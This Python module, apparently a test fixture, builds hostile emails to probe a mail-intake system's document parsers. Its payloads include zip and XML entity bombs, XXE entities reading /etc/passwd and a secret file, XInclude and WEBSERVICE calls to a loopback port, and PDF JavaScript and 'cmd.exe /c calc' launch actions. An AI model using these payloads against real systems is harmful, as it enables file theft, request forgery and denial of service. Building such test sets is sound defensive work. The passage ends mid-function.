"""The second hostile set: written blind, by an attacker who knows the stack (Python email,
pdfminer/pdfplumber, pikepdf, python-docx/lxml, openpyxl, Pillow, tesseract, zipfile,
html.parser) but not our code.

Each entry of `hostile_set` is a mail with a name and what its sender hopes for. Every
builder returns raw RFC 5322 bytes; heavy parts are cached so the whole set builds in a
few seconds. The ones that probe for leaks take a `Bait`: a secret file on this host and a
loopback port nobody should ever connect to.
"""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from functools import lru_cache
from pathlib import Path

MIB = 1024 * 1024
GIB = 1024 * MIB
BODY = "ชื่อ-นามสกุล: ผู้ทดสอบ โจมตี{n}\nอีเมล: attacker.{n}@example.org\nรายละเอียด: HOSTILEMARK{n}\n"


@dataclass(frozen=True)
class Bait:
    """What a leak would show: a secret file's path and a loopback port that must stay idle."""

    secret_path: Path
    secret: str
    port: int
    token: str  # names files a path-traversal write would create


@dataclass(frozen=True)
class Hostile:
    name: str
    hope: str  # what the attacker hopes happens
    build: Callable[[Bait, int], bytes]


# --- small builders ------------------------------------------------------------------


def _mail(n: int, subject: str = "คำร้องทั่วไป แนบไฟล์", body: str | None = None) -> EmailMessage:
    mail = EmailMessage()
    mail["From"] = f"Attacker {n} <attacker.{n}@example.org>"
    mail["To"] = "saraban@example.go.th"
    mail["Subject"] = subject
    mail["Message-ID"] = f"<hostile2-{n}-{random.Random(n).randint(10**8, 10**9)}@example.org>"
    mail.set_content(body if body is not None else BODY.format(n=n))
    return mail


def _attach(n: int, data: bytes, maintype: str, subtype: str, filename: str) -> bytes:
    mail = _mail(n)
    mail.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return bytes(mail)


def _raw_mail(n: int, headers: bytes, body: bytes) -> bytes:
    head = (
        b"From: Attacker %d <attacker.%d@example.org>\r\nTo: saraban@example.go.th\r\n"
        b"Message-ID: <hostile2-raw-%d@example.org>\r\nMIME-Version: 1.0\r\n" % (n, n, n)
    )
    return head + headers + b"\r\n" + body


def _deflate_repeated(prefix: bytes, unit: bytes, count: int, suffix: bytes) -> tuple[bytes, int]:
    """Raw deflate of prefix + unit*count + suffix, built from one compressed unit.

    After a full flush the compressor forgets its window, so the same unit compresses to
    the same bytes each time: a GiB of output costs one unit of work. Returns (data, crc).
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    once = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    assert once == again, "deflate is not repeatable here"
    tail = packer.compress(suffix) + packer.flush()
    crc = zlib.crc32(prefix)
    for _ in range(count):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(suffix, crc)
    return head + once * count + tail, crc


@dataclass(frozen=True)
class Member:
    name: str
    data: bytes  # as stored (deflated when method is 8)
    crc: int
    size: int  # inflated size as declared
    method: int = zipfile.ZIP_DEFLATED
    external_attr: int = 0
    flags: int = 0


def _member(name: str, content: bytes, method: int = zipfile.ZIP_DEFLATED) -> Member:
    if method == zipfile.ZIP_DEFLATED:
        packer = zlib.compressobj(6, zlib.DEFLATED, -15)
        stored = packer.compress(content) + packer.flush()
    else:
        stored = content
    return Member(name, stored, zlib.crc32(content), len(content), method)


def _zip(members: list[Member], central_repeat: int = 1) -> bytes:
    """A zip written by hand, so that sizes, flags and modes can be anything."""
    out = bytearray()
    central = bytearray()
    for member in members:
        name = member.name.encode("utf-8")
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            member.flags | 0x800,
            member.method,
            0,
            0x21,
            member.crc,
            len(member.data),
            member.size,
            len(name),
            0,
        )
        out += name + member.data
        entry = struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            0x031E,  # made by Unix, so external_attr carries a mode
            20,
            member.flags | 0x800,
            member.method,
            0,
            0x21,
            member.crc,
            len(member.data),
            member.size,
            len(name),
            0,
            0,
            0,
            0,
            member.external_attr,
            offset,
        )
        central += (entry + name) * central_repeat
    start = len(out)
    count = len(members) * central_repeat
    out += central
    out += struct.pack(
        "<IHHHHIIH",
        0x06054B50,
        0,
        0,
        min(count, 0xFFFF),
        min(count, 0xFFFF),
        len(central),
        start,
        0,
    )
    return bytes(out)


CONTENT_TYPES_DOCX = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/'
    b'vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS_DOCX = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx(document_xml: bytes | Member, extra: list[Member] = ()) -> bytes:  # type: ignore[assignment]
    doc = (
        document_xml
        if isinstance(document_xml, Member)
        else _member("word/document.xml", document_xml)
    )
    return _zip(
        [
            _member("[Content_Types].xml", CONTENT_TYPES_DOCX),
            _member("_rels/.rels", RELS_DOCX),
            doc,
            *extra,
        ]
    )


def _paragraphs(*lines: str) -> bytes:
    return b"".join(
        b"<w:p><w:r><w:t>" + line.encode("utf-8") + b"</w:t></w:r></w:p>" for line in lines
    )


def _document(body: bytes, doctype: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + doctype
        + b"<w:document "
        + W_NS
        + b"><w:body>"
        + body
        + b"</w:body></w:document>"
    )


CONTENT_TYPES_XLSX = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/'
    b'vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
RELS_XLSX = RELS_DOCX.replace(b"word/document.xml", b"xl/workbook.xml")
S_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R_NS = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _workbook(sheets: int = 1, doctype: bytes = b"") -> bytes:
    entries = b"".join(
        b'<sheet name="S%d" sheetId="%d" r:id="rId%d"/>' % (i, i, i) for i in range(1, sheets + 1)
    )
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + doctype
        + b"<workbook "
        + S_NS
        + b" "
        + R_NS
        + b"><sheets>"
        + entries
        + b"</sheets></workbook>"
    )


def _workbook_rels(sheets: int = 1, extra: bytes = b"") -> bytes:
    # every sheet points at the same part: one bomb read `sheets` times
    rels = b"".join(
        b'<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>' % i
        for i in range(1, sheets + 1)
    )
    shared = (
        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/>'
    )
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + rels
        + shared
        + extra
        + b"</Relationships>"
    )


def _sheet(rows: bytes, dimension: bytes = b"A1:B2", doctype: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + doctype
        + b"<worksheet "
        + S_NS
        + b'><dimension ref="'
        + dimension
        + b'"/><sheetData>'
        + rows
        + b"</sheetData></worksheet>"
    )


def _inline_row(r: int, *values: str) -> bytes:
    cells = b"".join(
        b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (col.encode(), r, v.encode())
        for col, v in zip("ABCDEFGH", values, strict=False)
    )
    return b'<row r="%d">%s</row>' % (r, cells)


def _xlsx(
    sheet: bytes | Member,
    shared: bytes | Member = b'<?xml version="1.0"?><sst ' + S_NS + b' count="0"/>',
    sheets: int = 1,
    workbook: bytes | None = None,
    extra: list[Member] = (),  # type: ignore[assignment]
    rels_extra: bytes = b"",
) -> bytes:
    def part(name: str, value: bytes | Member) -> Member:
        return value if isinstance(value, Member) else _member(name, value)

    return _zip(
        [
            _member("[Content_Types].xml", CONTENT_TYPES_XLSX),
            _member("_rels/.rels", RELS_XLSX),
            _member("xl/workbook.xml", workbook or _workbook(sheets)),
            _member("xl/_rels/workbook.xml.rels", _workbook_rels(sheets, rels_extra)),
            part("xl/worksheets/sheet1.xml", sheet),
            part("xl/sharedStrings.xml", shared),
            *extra,
        ]
    )


DOCX = ("application", "vnd.openxmlformats-officedocument.wordprocessingml.document")
XLSX = ("application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def _with_docx(n: int, docx: bytes, filename: str = "form.docx") -> bytes:
    return _attach(n, docx, *DOCX, filename)


def _with_xlsx(n: int, xlsx: bytes, filename: str = "form.xlsx") -> bytes:
    return _attach(n, xlsx, *XLSX, filename)


# --- office packages -----------------------------------------------------------------


@lru_cache(maxsize=1)
def docx_member_bomb() -> bytes:
    """word/document.xml inflates to 1 GiB of whitespace inside a valid document."""
    head = _document(b"")[: -len(b"</w:body></w:document>")] + _paragraphs("ชื่อ: บอมบ์")
    data, crc = _deflate_repeated(head, b" " * (16 * MIB), 64, b"</w:body></w:document>")
    size = len(head) + 64 * 16 * MIB + len(b"</w:body></w:document>")
    return _docx(Member("word/document.xml", data, crc, size))


@lru_cache(maxsize=1)
def xlsx_one_bomb_many_sheets() -> bytes:
    """200 sheets, all the same part, which inflates to 256 MiB: 50 GiB read in all."""
    head = _sheet(b"", b"A1:A1")[: -len(b"</sheetData></worksheet>")] + _inline_row(1, "x")
    data, crc = _deflate_repeated(head, b" " * (16 * MIB), 16, b"</sheetData></worksheet>")
    size = len(head) + 16 * 16 * MIB + len(b"</sheetData></worksheet>")
    return _xlsx(Member("xl/worksheets/sheet1.xml", data, crc, size), sheets=200)


@lru_cache(maxsize=1)
def docx_size_lie() -> bytes:
    """The central directory says 100 bytes; the deflate stream yields 512 MiB."""
    head = _document(b"")[: -len(b"</w:body></w:document>")]
    data, crc = _deflate_repeated(head, b" " * (16 * MIB), 32, b"</w:body></w:document>")
    return _docx(Member("word/document.xml", data, crc, 100))


@lru_cache(maxsize=1)
def docx_many_entries(count: int = 60_000) -> bytes:
    extra = [Member(f"x/{i}", b"", 0, 0, zipfile.ZIP_STORED) for i in range(count)]
    return _docx(_document(_paragraphs("ชื่อ: หลายแฟ้ม")), extra)


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lolololololololololol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)


def docx_billion_laughs() -> bytes:
    return _docx(_document(_paragraphs("ชื่อ: &lol9;"), LAUGHS))


def xlsx_billion_laughs() -> bytes:
    shared = b'<?xml version="1.0"?>' + LAUGHS + b"<sst " + S_NS + b"><si><t>&lol9;</t></si></sst>"
    rows = b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return _xlsx(_sheet(rows), shared)


def _xxe(bait: Bait) -> bytes:
    return (
        b'<!DOCTYPE w:document [<!ENTITY pw SYSTEM "file:///etc/passwd">'
        b'<!ENTITY sec SYSTEM "file://' + str(bait.secret_path).encode() + b'">]>'
    )


def docx_xxe_file(bait: Bait) -> bytes:
    body = _paragraphs("ชื่อ-นามสกุล: &sec;", "ที่อยู่: &pw;", "รายละเอียด: &sec;")
    return _docx(_document(body, _xxe(bait)))


def docx_xxe_http(bait: Bait) -> bytes:
    doctype = (
        b'<!DOCTYPE w:document SYSTEM "http://127.0.0.1:%d/docx.dtd" '
        b'[<!ENTITY net SYSTEM "http://127.0.0.1:%d/docx-entity">]>' % (bait.port, bait.port)
    )
    return _docx(_document(_paragraphs("ชื่อ-นามสกุล: &net;"), doctype))


def docx_xinclude(bait: Bait) -> bytes:
    include = (
        b'<w:p xmlns:xi="http://www.w3.org/2001/XInclude"><w:r><w:t>'
        b'<xi:include href="' + str(bait.secret_path).encode() + b'" parse="text"/>'
        b'<xi:include href="http://127.0.0.1:%d/xinclude" parse="text"/>'
        b"</w:t></w:r></w:p>" % bait.port
    )
    return _docx(_document(_paragraphs("ชื่อ-นามสกุล: รวมแฟ้ม") + include))


def xlsx_xxe(bait: Bait) -> bytes:
    doctype = _xxe(bait).replace(b"w:document", b"sst")[:-2] + (
        b'<!ENTITY net SYSTEM "http://127.0.0.1:%d/xlsx-entity">]>' % bait.port
    )
    shared = (
        b'<?xml version="1.0"?>'
        + doctype
        + b"<sst "
        + S_NS
        + "><si><t>ชื่อ-นามสกุล</t></si><si><t>&sec;</t></si><si><t>&pw;</t></si>".encode()
        + b"<si><t>&net;</t></si></sst>"
    )
    rows = (
        b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        b'<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="s"><v>3</v></c></row>'
    )
    workbook = _workbook(
        1, b'<!DOCTYPE workbook SYSTEM "http://127.0.0.1:%d/workbook.dtd">' % bait.port
    )
    return _xlsx(_sheet(rows), shared, workbook=workbook)


def xlsx_external_link(bait: Bait) -> bytes:
    """An external workbook link and a WEBSERVICE formula: nothing may follow them."""
    link = _member(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" '
        b'TargetMode="External"/></Relationships>',
    )
    rows = _inline_row(1, "ชื่อ-นามสกุล", "ลิงก์") + (
        b'<row r="2"><c r="A2"><f>WEBSERVICE("http://127.0.0.1:%d/ws")</f></c></row>' % bait.port
    )
    rels = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
    )
    extra = [
        _member(
            "xl/externalLinks/externalLink1.xml",
            b'<?xml version="1.0"?><externalLink '
            + S_NS
            + b" "
            + R_NS
            + b'><externalBook r:id="rId1"/></externalLink>',
        ),
        link,
    ]
    return _xlsx(_sheet(rows), extra=extra, rels_extra=rels)


def docx_deep_nesting(depth: int = 5000) -> bytes:
    """Tables nested 5,000 deep: recursion in whatever walks a docx's tables."""
    open_ = b"<w:tbl><w:tr><w:tc>" * depth
    close = b"<w:p/></w:tc></w:tr></w:tbl>" * depth
    return _docx(_document(_paragraphs("ชื่อ: ลึก") + open_ + _paragraphs("ชื่อ: ในสุด") + close))


@lru_cache(maxsize=1)
def docx_million_rows() -> bytes:
    rows = b"<w:tr><w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc></w:tr>" * 1_000_000
    return _docx(_document(_paragraphs("ชื่อ: ตาราง") + b"<w:tbl>" + rows + b"</w:tbl>"))


def xlsx_huge_dimension() -> bytes:
    """Two cells, at A1 and XFD1048576, and a dimension that says so: 17e9 cells to walk."""
    rows = _inline_row(1, "ชื่อ-นามสกุล", "ผู้ทดสอบ") + (
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>z</t></is></c></row>'
    )
    return _xlsx(_sheet(rows, b"A1:XFD1048576"))


@lru_cache(maxsize=1)
def xlsx_shared_strings_bomb() -> bytes:
    """Three million shared strings of 100 bytes each (300 MB), in 2 MB compressed."""
    unit = b"<si><t>" + b"A" * 100 + b"</t></si>"
    head = b'<?xml version="1.0"?><sst ' + S_NS + b' count="3000000" uniqueCount="3000000">'
    data, crc = _deflate_repeated(head, unit * 100_000, 30, b"</sst>")
    size = len(head) + len(unit) * 3_000_000 + len(b"</sst>")
    rows = b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>2999999</v></c></row>'
    return _xlsx(_sheet(rows), Member("xl/sharedStrings.xml", data, crc, size))


# --- images --------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def _png(width: int, height: int, idat: bytes, extra: bytes = b"") -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + extra
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_declared_huge() -> bytes:
    """60000 x 60000 declared (3.6 Gpx), a few rows of data."""
    return _png(60000, 60000, zlib.compress(b"\x00" + b"\xff" * 60000))


@lru_cache(maxsize=1)
def png_near_pillow_limit() -> bytes:
    """9000 x 9000 white (81 Mpx, under Pillow's bomb warning): minutes of OCR."""
    row = b"\x00" + b"\xff" * 9000
    data, _ = _deflate_repeated(b"", row * 500, 18, b"")
    header = b"\x78\xda"
    adler = 1
    for _ in range(18):
        adler = zlib.adler32(row * 500, adler)
    return _png(9000, 9000, header + data + struct.pack(">I", adler))


@lru_cache(maxsize=1)
def png_ztxt_bomb() -> bytes:
    """A valid 64 x 64 image with a zTXt chunk that inflates to 256 MiB."""
    data, _ = _deflate_repeated(b"", b"A" * (16 * MIB), 16, b"")
    text = b"Comment\x00\x00" + b"\x78\xda" + data + b"\x00\x00\x00\x00"
    pixels = zlib.compress((b"\x00" + b"\xff" * 64) * 64)
    return _png(64, 64, pixels, _png_chunk(b"zTXt", text))


@lru_cache(maxsize=1)
def tiff_many_pages(pages: int = 1500) -> bytes:
    from PIL import Image, ImageDraw

    frames = []
    for i in range(pages):
        img = Image.new("1", (400, 120), 1)
        ImageDraw.Draw(img).text((10, 50), f"page {i} name x", fill=0)
        frames.append(img)
    out = io.BytesIO()
    frames[0].save(
        out, format="TIFF", save_all=True, append_images=frames[1:], compression="group4"
    )
    return out.getvalue()


@lru_cache(maxsize=1)
def gif_many_frames(frames_n: int = 3000) -> bytes:
    from PIL import Image

    frames = []
    for i in range(frames_n):
        img = Image.new("P", (200, 200), 0)
        img.putpixel((i % 200, (i // 200) % 200), 1)
        frames.append(img)
    out = io.BytesIO()
    frames[0].save(out, format="GIF", save_all=True, append_images=frames[1:], duration=1)
    return out.getvalue()


def jpeg_huge_named_png() -> bytes:
    """A JPEG whose frame header says 65500 x 65500, sent as image/png named scan.png."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (16, 16), 255).save(out, format="JPEG")
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, 65500, 65500)
    return bytes(data)


# --- PDFs ----------------------------------------------------------------------------


def pdf_from_objects(objects: list[bytes], trailer_extra: bytes = b"", tail: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer_extra.replace(b"{xref}", b"%d" % xref),
        xref,
    )
    return bytes(out) + tail


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
TEXT = b"BT /F1 12 Tf 72 720 Td (Name: Attacker) Tj ET"


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def _page(contents: int = 4, parent: int = 2, extra: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> %s>>" % (parent, contents, extra)
    )


def pdf_kids_loop() -> bytes:
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R 6 0 R] /Count 1000000 >>",
            _page(),
            _stream(TEXT),
            FONT,
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R] /Count 5 >>",
        ]
    )


def pdf_xref_prev_loop() -> bytes:
    """The trailer's /Prev points at its own xref table."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(),
            _stream(TEXT),
            FONT,
        ],
        trailer_extra=b"/Prev {xref} ",
    )


def pdf_length_self_reference() -> bytes:
    stream = b"<< /Length 4 0 R >>\nstream\n" + TEXT + b"\nendstream"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Outlines 1 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(),
            stream,
            FONT,
        ]
    )


def pdf_length_lie() -> bytes:
    stream = b"<< /Length 99999999999 >>\nstream\n" + TEXT + b"\nendstream"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(),
            stream,
            FONT,
        ]
    )


@lru_cache(maxsize=1)
def pdf_ten_thousand_pages(pages: int = 10_000) -> bytes:
    first = 6
    kids = b" ".join(b"%d 0 R" % (first + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< >>",
        _stream(TEXT),
        FONT,
    ]
    objects += [_page()] * pages
    return pdf_from_objects(objects)


@lru_cache(maxsize=1)
def pdf_million_path_ops() -> bytes:
    """2.5 million tiny paths (30 MB inflated, under a 64 MB stream cap): one object each."""
    ops = b"0 0 m 1 1 l S\n" * 2_500_000
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(),
            _stream(zlib.compress(ops, 9), b"/Filter /FlateDecode "),
            FONT,
        ]
    )


def pdf_nested_arrays(depth: int = 100_000) -> bytes:
    deep = b"[" * depth + b"]" * depth
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(extra=b"/Deep " + deep + b" "),
            _stream(TEXT),
            FONT,
        ]
    )


def pdf_jbig2_jpx_inline() -> bytes:
    """Garbage JBIG2 and JPX images declared 60000 x 60000, and a huge inline image."""
    rng = random.Random(3)
    garbage = bytes(rng.randrange(256) for _ in range(4096))
    image = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent %d "
    content = (
        b"q 500 0 0 500 0 0 cm /Im1 Do Q q 500 0 0 500 0 0 cm /Im2 Do Q "
        b"BI /W 60000 /H 60000 /BPC 8 /CS /G ID " + garbage[:512] + b" EI " + TEXT
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R /Im2 7 0 R >> >> >>"
    )
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            _stream(content),
            FONT,
            _stream(garbage, image % 1 + b"/ColorSpace /DeviceGray /Filter /JBIG2Decode "),
            _stream(garbage, image % 8 + b"/Filter /JPXDecode "),
        ]
    )


def pdf_active_content(bait: Bait) -> bytes:
    """OpenAction JavaScript, a Launch action, a page open action and a form submit."""
    js = b"app.alert('x'); this.submitForm('http://127.0.0.1:%d/js');" % bait.port
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R"
            b" /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(extra=b"/AA << /O 7 0 R >> "),
            _stream(TEXT),
            FONT,
            b"<< /S /JavaScript /JS (" + js + b") >>",
            b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        ]
    )


def pdf_encrypted() -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret-user", owner="secret-owner"))
    return out.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a ZIP (its central directory at the end) holding a docx bomb."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(),
            _stream(TEXT),
            FONT,
        ],
        tail=docx_size_lie(),
    )


# --- MIME ----------------------------------------------------------------------------


def mime_fifty_thousand_parts(n: int) -> bytes:
    parts = b"".join(b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" for _ in range(50_000))
    body = b"--b\r\n\r\n" + BODY.format(n=n).encode() + b"\r\n" + parts + b"--b--\r\n"
    return _raw_mail(n, b'Subject: parts\r\nContent-Type: multipart/mixed; boundary="b"\r\n', body)


def mime_ten_mb_header(n: int) -> bytes:
    subject = b"Subject: " + b"\xe0\xb8\x81" * (10 * MIB // 3) + b"\r\n"
    return _raw_mail(
        n, subject + b"Content-Type: text/plain; charset=utf-8\r\n", BODY.format(n=n).encode()
    )


def mime_hundred_thousand_headers(n: int) -> bytes:
    fields = b"".join(b"X-H%d: v\r\n" % i for i in range(100_000))
    fields += b"".join(b"Received: from x%d by y\r\n" % i for i in range(20_000))
    return _raw_mail(
        n,
        b"Subject: headers\r\n" + fields + b"Content-Type: text/plain; charset=utf-8\r\n",
        BODY.format(n=n).encode(),
    )


def mime_rfc2231_continuations(n: int) -> bytes:
    sections = b"".join(b";\r\n filename*%d*=%%e0%%b8%%81" % i for i in range(150_000))
    sections += b";\r\n filename*999999=z"
    part = (
        b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + BODY.format(n=n).encode()
        + b"\r\n--b\r\nContent-Type: application/pdf; name*0=a"
        + sections[:2000]
        + b"\r\nContent-Disposition: attachment"
        + sections
        + b"\r\n\r\n%PDF-1.4\r\n--b--\r\n"
    )
    return _raw_mail(n, b'Subject: 2231\r\nContent-Type: multipart/mixed; boundary="b"\r\n', part)


def mime_encoded_words(n: int) -> bytes:
    word = "ชื่อ"
    for _ in range(25):
        word = "=?utf-8?b?" + base64.b64encode(word.encode()).decode() + "?="
    many = " ".join("=?utf-8?q?=E0=B8=81?=" for _ in range(100_000))
    headers = (
        f"Subject: {word[:5000]}\r\nX-Many: {many}\r\nContent-Type: text/plain; charset=utf-8\r\n"
    ).encode()
    headers = headers.replace(b"X-Many:", b"Subject-Extra:")
    mail = _raw_mail(n, headers, BODY.format(n=n).encode())
    # the From display name is 100,000 encoded words too
    return mail.replace(b"From: Attacker", b"From: " + many.encode() + b" Attacker", 1)


def mime_boundary_prefixes(n: int, depth: int = 400) -> bytes:
    """Each level's boundary is a prefix of the next: every line matches every level."""
    out = [b'Subject: prefixes\r\nContent-Type: multipart/mixed; boundary="q"\r\n\r\n']
    for level in range(1, depth):
        out.append(
            b"--"
            + b"q" * level
            + b'\r\nContent-Type: multipart/mixed; boundary="'
            + b"q" * (level + 1)
            + b'"\r\n\r\n'
        )
    out.append(
        b"--"
        + b"q" * depth
        + b"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + BODY.format(n=n).encode()
        + b"\r\n"
    )
    out += [b"--" + b"q" * level + b"--\r\n" for level in reversed(range(1, depth + 1))]
    head = b"".join(out[:1])
    return _raw_mail(n, head.split(b"\r\n\r\n")[0] + b"\r\n", b"".join(out[1:]))


def mime_base64_garbage(n: int) -> bytes:
    encoded = base64.b64encode(png_near_pillow_limit()).decode()
    mangled = "!~\x00".join(encoded[i : i + 4] for i in range(0, len(encoded), 4))
    body = (
        "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + BODY.format(n=n)
        + "\r\n--b\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n"
        "Content-Disposition: attachment; filename=scan.png\r\n\r\n" + mangled + "\r\n--b--\r\n"
    )
    return _raw_mail(
        n, b'Subject: b64\r\nContent-Type: multipart/mixed; boundary="b"\r\n', body.encode("utf-8")
    )


@lru_cache(maxsize=1)
def _pdf_bomb_512m() -> bytes:
    data, _ = _deflate_repeated(b"", bytes(16 * MIB), 32, b"")
    adler = 1
    for _ in range(32):
        adler = zlib.adler32(bytes(16 * MIB), adler)
